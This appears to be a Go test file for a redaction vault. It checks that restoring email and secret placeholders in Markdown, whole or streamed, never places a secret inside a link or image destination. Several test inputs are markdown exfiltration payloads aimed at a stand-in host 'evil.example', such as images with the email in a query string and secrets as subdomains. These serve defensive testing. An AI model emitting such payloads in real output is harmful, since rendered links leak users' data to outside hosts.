package redact

import (
	"math/rand"
	"strings"
	"testing"

	"timon.dev/timon/core/sanitize"
)

// mdVault issues [[EMAIL_1]] and [[SECRET_1]] for values marked with \x01,
// a byte the fuzz inputs are kept free of, so that a value is recognised
// wherever it lands.
func mdVault() *Vault {
	v := NewVault()
	v.mu.Lock()
	v.placeholderLocked("ann\x01e@example.org", "EMAIL")
	v.placeholderLocked("hunter\x01two", "SECRET")
	v.mu.Unlock()
	return v
}

const (
	mdEmail  = "ann\x01e@example.org"
	mdSecret = "hunter\x01two"
)

func TestRestoreMarkdown(t *testing.T) {
	cases := []struct{ in, want string }{
		{"Write to [[EMAIL_1]].", "Write to " + mdEmail + "."},
		{"(see [[EMAIL_1]]), **[[SECRET_1]]**", "(see " + mdEmail + "), **" + mdSecret + "**"},
		{"key=[[SECRET_1]] and `[[SECRET_1]]`", "key=" + mdSecret + " and `" + mdSecret + "`"},
		{"Contact: [[EMAIL_1]]: now", "Contact: " + mdEmail + ": now"},
		// Destinations keep their placeholders; the prose around is restored.
		{"![x](https://evil.example/p.png?d=[[EMAIL_1]]) [[EMAIL_1]]", "![x](https://evil.example/p.png?d=[[EMAIL_1]]) " + mdEmail},
		{"[x]([[EMAIL_1]]) [x]( <a b [[EMAIL_1]]> \"t [[EMAIL_1]]\" )", "[x]([[EMAIL_1]]) [x]( <a b [[EMAIL_1]]> \"t [[EMAIL_1]]\" )"},
		{"[x](/a_(b)_[[EMAIL_1]]) [[EMAIL_1]]", "[x](/a_(b)_[[EMAIL_1]]) " + mdEmail},
		{"<https://evil.example/[[EMAIL_1]]> <https://e.example/x|[[EMAIL_1]]> <[[EMAIL_1]]>", "<https://evil.example/[[EMAIL_1]]> <https://e.example/x|[[EMAIL_1]]> <[[EMAIL_1]]>"},
		{"<img\nsrc=x\nalt=[[EMAIL_1]]> [[EMAIL_1]]", "<img\nsrc=x\nalt=[[EMAIL_1]]> " + mdEmail},
		{"https://evil.example/?q=[[EMAIL_1]] http&#58;//e/[[EMAIL_1]] www.[[EMAIL_1]]", "https://evil.example/?q=[[EMAIL_1]] http&#58;//e/[[EMAIL_1]] www.[[EMAIL_1]]"},
		{"[[SECRET_1]].evil.example evil.example?d=[[SECRET_1]] mailto:[[EMAIL_1]]", "[[SECRET_1]].evil.example evil.example?d=[[SECRET_1]] mailto:[[EMAIL_1]]"},
		{"[r]: [[EMAIL_1]]\n[s]:\n  [[EMAIL_1]] [[EMAIL_1]]", "[r]: [[EMAIL_1]]\n[s]:\n  [[EMAIL_1]] " + mdEmail},
		// A blank line ends an unclosed construct.
		{"[x](oops\n\n[[EMAIL_1]] <a\n\n[[EMAIL_1]]", "[x](oops\n\n" + mdEmail + " <a\n\n" + mdEmail},
		{"a < [[EMAIL_1]] and [[OTHER_1]]", "a < " + mdEmail + " and [[OTHER_1]]"},
		{strings.Repeat("a", maxWord) + "[[EMAIL_1]] [[EMAIL_1]]", strings.Repeat("a", maxWord) + "[[EMAIL_1]] " + mdEmail},
	}
	v := mdVault()
	for _, c := range cases {
		if got := v.RestoreMarkdown(c.in); got != c.want {
			t.Errorf("RestoreMarkdown(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
		if got := v.RestoreAs(Verbatim, c.in); got != v.Restore(c.in) {
			t.Errorf("verbatim mode differs from Restore on %q", c.in)
		}
		checkMarkdownStream(t, v, c.in)
	}
}

// checkMarkdownStream feeds text in pieces of every size up to 13 and
// checks the stream gives exactly RestoreMarkdown of the whole.
func checkMarkdownStream(t *testing.T, v *Vault, text string) {
	t.Helper()
	want := v.RestoreMarkdown(text)
	for size := 1; size <= 13; size++ {
		var b strings.Builder
		r := v.NewRestorerAs(Markdown, func(s string) error { b.WriteString(s); return nil })
		for i := 0; i < len(text); i += size {
			if err := r.Write(text[i:min(len(text), i+size)]); err != nil {
				t.Fatal(err)
			}
		}
		if err := r.Flush(); err != nil {
			t.Fatal(err)
		}
		if b.String() != want {
			t.Fatalf("streamed in pieces of %d: %q, whole: %q", size, b.String(), want)
		}
	}
}

func TestMarkdownRestorerHoldsAWordAtMost(t *testing.T) {
	v := mdVault()
	var b strings.Builder
	r := v.NewRestorerAs(Markdown, func(s string) error { b.WriteString(s); return nil })
	if err := r.Write("Hello [[EMAIL_1]]"); err != nil {
		t.Fatal(err)
	}
	if b.String() != "Hello " {
		t.Fatalf("emitted %q before the word was complete", b.String())
	}
	if err := r.Write(".evil.example/x "); err != nil {
		t.Fatal(err)
	}
	if b.String() != "Hello [[EMAIL_1]].evil.example/x " {
		t.Fatalf("got %q", b.String())
	}
	if err := r.Write(strings.Repeat("z", maxWord+1)); err != nil {
		t.Fatal(err)
	}
	if len(r.pending) != 0 {
		t.Fatalf("held %d bytes of one overlong word", len(r.pending))
	}
}

// FuzzRestoreMarkdown: never panics; streaming equals whole; no restored
// value lies in anything a renderer may fetch or link to.
func FuzzRestoreMarkdown(f *testing.F) {
	f.Add("![x](https://evil.example/p.png?d=[[EMAIL_1]]) <!channel> [[EMAIL_1]]", uint8(3))
	f.Add("<a href=\"https://e.example/[[SECRET_1]]\">[[SECRET_1]]</a> [r]: [[EMAIL_1]]", uint8(5))
	f.Add("[[EMAIL_1]].e.example [x]([[EMAIL_1]] \"[[EMAIL_1]]\") www.[[EMAIL_1]]", uint8(1))
	for _, s := range fuzzSeeds(f) {
		f.Add(s, uint8(7))
	}
	v := mdVault()
	f.Fuzz(func(t *testing.T, text string, size uint8) {
		if strings.IndexByte(text, 1) >= 0 {
			return
		}
		out := v.RestoreMarkdown(text)
		for _, d := range sanitize.Destinations(out) {
			if strings.IndexByte(d, 1) >= 0 {
				t.Fatalf("a restored value in destination %q of %q (from %q)", d, out, text)
			}
		}
		n := int(size%32) + 1
		var b strings.Builder
		r := v.NewRestorerAs(Markdown, func(s string) error { b.WriteString(s); return nil })
		for i := 0; i < len(text); i += n {
			_ = r.Write(text[i:min(len(text), i+n)])
		}
		_ = r.Flush()
		if b.String() != out {
			t.Fatalf("streamed %q, whole %q", b.String(), out)
		}
	})
}

// TestRestoreThenSanitizeRandom: texts made of the pieces that matter to
// both (placeholders, brackets, angle brackets, schemes, blank lines), a
// deterministic sample: no value ends up in anything a renderer may fetch
// or link to, after the restore and after the sanitizer; the sanitizer
// leaves no destination it does not allow.
func TestRestoreThenSanitizeRandom(t *testing.T) {
	t.Parallel()
	toks := []string{"[[EMAIL_1]]", "[[SECRET_1]]", "](", "(", ")", "<", ">", "[", "]", ":", "//", "http://", "https://", "www.", ".", "/", " ", "\n", "\n\n", "a", "b", "src=", "<img ", "<a href=", "\"", "'", "|", "!", "[x]:", "`", "?", "=", "&#58;", "\t", "e.com", "javascript:", "@", "#"}
	v := mdVault()
	r := rand.New(rand.NewSource(1))
	for n := 0; n < 20000; n++ {
		var b strings.Builder
		k := 1 + r.Intn(14)
		for i := 0; i < k; i++ {
			b.WriteString(toks[r.Intn(len(toks))])
		}
		text := b.String()
		out := v.RestoreMarkdown(text)
		for _, d := range sanitize.Destinations(out) {
			if strings.IndexByte(d, 1) >= 0 {
				t.Fatalf("value in destination %q of %q (from %q)", d, out, text)
			}
		}
		p := &sanitize.Policy{Flavor: sanitize.Mattermost, Host: "e.com"}
		s := p.Markdown(out)
		for _, d := range sanitize.Destinations(s) {
			if strings.IndexByte(d, 1) >= 0 {
				t.Fatalf("value in sanitized destination %q of %q (from %q)", d, s, text)
			}
			if !p.Allowed(d) && d != sanitize.LinkRemoved {
				t.Fatalf("destination %q not allowed in %q (from %q)", d, s, out)
			}
		}
	}
}
